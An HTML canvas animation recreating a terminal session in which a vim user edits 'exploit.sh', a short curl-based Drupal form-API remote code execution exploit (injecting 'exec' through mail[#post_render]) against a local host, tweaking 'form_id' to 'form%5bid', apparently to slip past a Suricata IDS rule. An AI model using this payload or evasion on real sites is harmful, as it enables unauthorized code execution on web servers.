
An HTML page with a canvas for the animation above (8000 ms loop, 1002 by 559 pixels).

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Editing a shell script in a terminal</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #131313; }
  canvas { position: absolute; left: 0; top: 0; }
  .strip { position: absolute; left: 0; top: 1px; width: 1002px; height: 18px;
    background: linear-gradient(rgba(0, 0, 0, .9) 15%, rgba(0, 0, 0, .5) 50%, transparent); }
  .bar { position: absolute; left: 256px; top: 20px; width: 495px; height: 17px;
    background: #000; box-shadow: 0 0 16px 6px #000; }
</style>
</head>
<body>
<div class="strip"></div>
<div class="bar"></div>
<canvas id="screen" width="1002" height="559"></canvas>
<script>
const LOOP = 8000, LEFT = 3.5, TOP = 279.3, CELL = 7, ROW = 15.38, BASELINE = 11.8;
const WHITE = '#f2f2f2', RED = '#c5341f', YELLOW = '#aca926', CYAN = '#35bac6',
      PINK = '#cf35d3', BLUE = '#4a2cdc', GREEN = '#18a118';
const FAMILY = '"Noto Sans Mono", "DejaVu Sans Mono", monospace';
const ctx = document.getElementById('screen').getContext('2d');

// Fit the font size to the cell width
ctx.font = `100px ${FAMILY}`;
const size = 100 * CELL / ctx.measureText('M').width;

// Cursor moves: time, column, text between "form" and "id", insert mode
const MOVES = [
  [0, 11, '_'], [100, 12, '_'], [200, 13, '_'], [400, 14, '_'], [1200, 15, '_'],
  [1400, 16, '_'], [1700, 15, '_'], [2400, 14, '_'], [2900, 15, '_', true],
  [3300, 14, '', true], [4400, 15, '%', true], [4790, 16, '%5', true], [5190, 17, '%5b', true]
];
// Command line after leaving insert mode
const COMMANDS = [[6490, ':'], [6690, ':w'], [7390, ':wq'], [7590, '"exploit.sh" 9L, 319C written']];
const EXIT = 7690;

const at = (list, t) => list.filter(step => step[0] <= t).pop();

function box(color, x, y, w, h) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function write(row, col, text, color = WHITE, weight = 400) {
  ctx.font = `${weight} ${size}px ${FAMILY}`;
  ctx.fillStyle = color;
  ctx.fillText(text, LEFT + col * CELL, TOP + row * ROW + BASELINE);
}

// Parts alternate: text, color, text, color, ...
function line(row, ...parts) {
  let col = 0;
  for (let i = 0; i < parts.length; i += 2) {
    write(row, col, parts[i], parts[i + 1]);
    col += parts[i].length;
  }
}

function cursor(row, col) {
  box('rgba(129,129,129,.75)', LEFT + col * CELL, TOP + row * ROW, CELL, ROW);
}

function drawFrame() {
  box('#3a3a3a', 0, 0, 1002, 1);
  for (let x = 124; x < 1002; x += 124) box('#555', x, 0, 1, 2);
  box('#3a3a3a', 0, 1, 1, 558);
  box(WHITE, 3, 271, 504, 1.3);
  box(GREEN, 507, 271, 495, 1.3);
  box(GREEN, LEFT, TOP + 17 * ROW, 999, ROW);
  write(17, 0, '[0] 0:docker*', '#000');
  write(17, 109, '"root@suricata: ~" 11:33 05-Lug-19', '#000');
}

function drawScript(gap) {
  const assign = (row, name, value) =>
    line(row, name, CYAN, '=', WHITE, '"', YELLOW, value, RED, '"', YELLOW);
  line(0, '#!/bin/bash', BLUE);
  assign(2, 'URL', '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax');
  assign(3, 'QSTRING', `form${gap}id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=`);
  assign(4, 'COMMAND', 'id');
  line(6, 'echo ""', YELLOW);
  line(7, 'curl ', WHITE, '-s -d ', PINK, '"', YELLOW, '${QSTRING}${COMMAND}', PINK, '" "', YELLOW,
    'http://172.17.0.1:8080', RED, '$URL', PINK, '"', YELLOW);
  line(8, 'echo ""', YELLOW);
  for (let row = 9; row < 16; row++) write(row, 0, '~', BLUE);
}

function drawEditor(t) {
  const [, col, gap, insert] = at(MOVES, t);
  const command = at(COMMANDS, t);
  drawScript(gap);
  if (command) {
    write(16, 0, command[1]);
    cursor(16, command[1].length);
    return;
  }
  if (insert) write(16, 0, '-- INSERT --', WHITE, 700);
  else write(16, 0, '"exploit.sh" 9L, 317C');
  write(16, 125, `4,${col}`);
  write(16, 139, 'All');
  cursor(3, col - 1);
}

function drawShell() {
  for (let row = 0; row < 7; row++)
    write(row, 0, 'root@suricata:~# ' + (row === 5 ? 'vim exploit.sh' : ''));
  cursor(6, 17);
}

const start = performance.now();
function draw(now) {
  const t = Math.max(0, now - start) % LOOP;
  ctx.clearRect(0, 0, 1002, 559);
  drawFrame();
  if (t < EXIT) drawEditor(t);
  else drawShell();
  requestAnimationFrame(draw);
}
draw(start);
</script>
</body>
</html>
```
